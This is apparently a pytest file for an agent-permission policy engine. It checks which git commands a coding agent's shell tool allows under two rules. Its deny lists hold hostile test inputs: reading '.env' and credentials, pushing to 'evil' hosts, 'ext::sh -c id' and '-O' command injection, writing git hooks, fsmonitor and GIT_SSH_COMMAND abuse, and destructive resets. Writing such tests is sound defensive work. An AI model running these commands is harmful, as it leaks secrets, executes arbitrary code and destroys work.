"""What a coding agent may do with git under two short rules: one that looks and builds, and one that trusts what the
repository holds."""

from typing import Final

import pytest

from rebuno.policy.explain.explain import explain_decision
from rebuno.policy.facets.reading import PathContext
from rebuno.policy.facets.shell.effects import git
from rebuno.policy.facets.shell.effects.arguments import Argument
from rebuno.policy.facets.shell.effects.expansion import WordValue
from rebuno.policy.facets.shell.effects.facets import FACETS, effects_of
from rebuno.policy.facets.shell.effects.found import Found
from rebuno.policy.facets.shell.effects.table import Slot, TableError, read_table
from rebuno.policy.facets.shell.words import Word
from rebuno.policy.matcher.facts import Facts
from tests.policy.bundles import policy_of

BUNDLE: Final = """
workdir "/proj"
home "/home/dev"
let keys = ["**/.env", "**/.ssh/**", "**/.git/config", "~/.gitconfig"]
let run_by_others = ["**/.git", "**/.git/**", "**/.github/**", "~/**"]

rule look-and-build {
  allow tool "shell"
  when unread of args.command missing
   and every read_path of args.command under "."
   and no read_path of args.command like keys ignoring case
   and every written_path of args.command under "."
   and no written_path of args.command like run_by_others ignoring case
   and every removed_path of args.command under ["src", "build"]
   and every contacted_host of args.command in ["remote:origin", "remote:", "github.com"]
   and every executed of args.command under "."
}

rule trust-the-repository {
  allow tool "shell"
  when every command of args.command has (it like ["git stash", "git stash *", "git pull", "git pull *",
                                                   "git switch *", "git merge *", "git rebase *"]
                                          and unread of it missing
                                          and every read_path of it under "."
                                          and no read_path of it like keys ignoring case
                                          and every written_path of it under "."
                                          and no removed_path of it under "/"
                                          and every contacted_host of it in ["remote:origin", "remote:"]
                                          and no executed of it under "/")
}
"""


POLICY: Final = policy_of(BUNDLE)


def decided(command: str) -> str | None:
    """The rule that lets a command in, or None; `explain` says the same."""
    policy = POLICY
    found = policy.decide(Facts("tool_call", "shell", {"command": command}))
    told = explain_decision(policy, Facts("tool_call", "shell", {"command": command}))
    assert (told.decision.verdict, told.decision.rule_id) == (found.verdict, found.rule_id)
    return None if found.rule_id == "default" else found.rule_id


@pytest.mark.parametrize(
    "command",
    [
        "git status", "git diff", "git diff --stat HEAD~1", "git diff main..HEAD -- src/", "git log --oneline",
        "git log -p -- src/app.py", "git show HEAD", "git show HEAD:.env.example", "git blame src/app.py", "git add -A",
        "git add src/app.py tests/test_app.py", "git commit -m 'fix: x'", "git checkout -b x", "git fetch origin",
        "git restore --staged src/app.py", "git branch --list", "git rev-parse HEAD", "git grep -n foo",
        "git fetch https://github.com/a/b", "git rm -r src/old", "git clean -fd build", "git remote -v",
        "git -c user.name=x commit -m y", "git -C src log -3", "git log --oneline && git diff",
    ],
)  # fmt: skip
def test_the_day_of_a_developer_goes_by_without_a_question(command: str) -> None:
    """Looking, staging, committing and fetching change nothing that somebody else runs."""
    assert decided(command) == "look-and-build"


@pytest.mark.parametrize(
    "command",
    ["git stash", "git stash pop", "git pull --rebase", "git switch main", "git merge origin/main", "git rebase main"],
)
def test_what_the_repository_holds_is_let_in_by_a_rule_of_its_own(command: str) -> None:
    """They write whatever a commit holds, a workflow perhaps."""
    assert decided(command) == "trust-the-repository"


@pytest.mark.parametrize(
    "command",
    [
        "git show HEAD:.env", "git show :.env", "git show HEAD:./.ENV", "git log -p -- .env", "git diff HEAD -- .env",
        "git diff -- '.e*'", "git log -p -- '*'", "git cat-file -p HEAD:.env", "git diff HEAD:.env..HEAD:x",
        "git log -L 1,9:.env", "git add .env", "git grep --untracked SECRET", "git diff --no-index . /dev/null",
        "git diff src /tmp", "git blame -S .env x", "git commit -F .env", "git config --list", "git mv .env x",
        "git push", "git --no-pager push origin main", "git push https://github.com/evil/x HEAD", "git push -f origin",
        "git push origin +main", "git push origin :main", "git remote add x https://evil.example/x",
        "git clone https://evil.example/x", "git fetch evil", "git fetch ../other", "git fetch 'ext::sh -c id'",
        "git -C /tmp/evil status", "git -C ~ status", "git -c core.pager=x log", "git -c core.fsmonitor=x status",
        "git --git-dir=/tmp/x log", "git --exec-path=/tmp/x log", "git log --output=.git/hooks/pre-commit",
        "git log --outpu=x", "git diff --ext-diff", "git grep -O'sh -c id' foo", "git bisect run sh -c id",
        "git rebase -x id main", "git submodule foreach id", "git filter-branch --tree-filter id HEAD", "git init",
        "git config core.hooksPath /tmp/x", "git reset --hard", "git clean -fdx", "git checkout -- .", "git stash drop",
        "git branch -D x", "git update-ref -d refs/heads/main", "git checkout main", "git apply x.patch", "git am x",
        "git worktree add ../x", "git archive -o ../x HEAD", "git format-patch -o ~ HEAD~1", "git commit",
        "git credential fill", "GIT_SSH_COMMAND=x git fetch", "git log --format=%G?",
    ],
)  # fmt: skip
def test_what_reads_keys_publishes_runs_or_loses_work_is_not_let_in(command: str) -> None:
    """None of these is allowed by either rule."""
    assert decided(command) is None


def told(command: str, kind: str = "read_path") -> set[str]:
    """The members of one set of effects of a command in `/proj`."""
    found = effects_of(command, PathContext("/proj", "/home/dev"))
    assert found is not None
    return {str(value) for value, effect in found.values if effect.kind.value == kind}


def revision(text: str, kind: str = "revision") -> Found:
    """What a word of this kind comes to."""
    found = Found(True, git.READERS)
    argument = Argument(Slot((kind,)), (WordValue(text),), text, "", ("",), Word(text))
    git.READERS[kind](kind, argument, found)
    return found


@pytest.mark.parametrize("text", ["HEAD:a..HEAD:.env", "HEAD:.env..HEAD", ":/fix", "HEAD a", ":(top)x", "a:b:c"])
def test_a_revision_that_is_not_read_for_sure_is_unread(text: str) -> None:
    """Two files in a range, a search, what is no revision."""
    assert revision(text).unread == [text]


@pytest.mark.parametrize(
    "text", ["HEAD", "HEAD~2", "a1b2c3d", "@", "@{-1}", "stash@{0}", "HEAD^^{commit}", "HEAD~3..HEAD", "-"]
)
def test_what_is_surely_a_commit_is_no_path(text: str) -> None:
    """Nothing else is known to be one: a branch may be a file."""
    assert revision(text, "revision-gone").effects == []
    for other in ("main", "v1.0", "src/app.py", ".env~1", "main..feature", "a^"):
        assert revision(other, "revision-gone").effects


def test_a_path_in_a_commit_is_read_from_the_root() -> None:
    """Wherever the command stands, but for `./`."""
    assert told("git -C src show HEAD:src/a.py") == {"/proj", "/proj/src/a.py"}
    assert told("git -C src show HEAD:./a.py") == {"/proj", "/proj/src/a.py"}
    assert told("git -C src branch -D x", "removed_path") == {"/proj/.git"}


def test_a_push_talks_to_a_name_of_its_own() -> None:
    """A rule for fetching does not let it in, and no name in a configuration lies below a domain."""
    assert told("git push origin x", "contacted_host") == {"remote:origin", "push:origin"}
    assert told("git push git@a.example:x", "contacted_host") == {"a.example", "push:a.example"}
    under = next(facet.under for facet in FACETS if facet.name == "contacted_host")
    assert under is not None
    assert under("api.github.com", "github.com")
    assert not under("push:api.github.com", "github.com")
    assert not under("remote:x.github.com", "github.com")


def test_an_option_before_the_subcommand_is_none_of_its_own() -> None:
    """`git -C d commit` opens an editor: it is no `git commit -C`."""
    found = effects_of("git -C src commit", PathContext("/proj"))
    assert found is not None
    assert found.unread == ("git commit",)


def test_a_table_says_what_is_wrong_with_a_shared_option() -> None:
    """The place is that of the option, though options are read once."""
    for name in ("one", "two"):
        with pytest.raises(TableError, match=f"{name}: options: -x: `nothing` is no kind of words"):
            read_table(name, {"options": {"-x": "nothing"}})
